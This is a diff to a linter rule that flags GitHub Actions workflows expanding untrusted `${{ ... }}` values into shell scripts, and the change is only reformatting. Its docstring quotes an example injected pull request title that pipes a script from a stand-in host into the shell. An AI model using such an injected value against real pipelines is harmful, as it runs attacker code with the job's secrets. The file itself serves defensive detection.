@@ -4,8 +4,8 @@ GitHub puts the value of `${{ ... }}` into the text of a script before the shell
 request titled `a"; curl evil.example | sh; "` is then no title but a command, which runs with the
 job's token and secrets.
 
-The Ultralytics releases of December 2024 were poisoned this way: a branch name was expanded in
-a composite action under `pull_request_target`, and a miner was published to PyPI.
+The Ultralytics releases of December 2024 were poisoned this way: a branch name was expanded in a
+composite action under `pull_request_target`, and a miner was published to PyPI.
 """
 
 from collections.abc import Iterable
@@ -58,7 +58,7 @@ def run(pipeline: Pipeline, _view: View) -> Iterable[Violation]:
                         severity=severity,
                         change=Change(
                             at,
-                            "${{ %s }}" % name,
+                            f"${{{{ {name} }}}}",
                             f"${variable}, with {variable} set in env",
                             f"Pass untrusted values to the scripts of {pipeline.id} through env",
                         ),
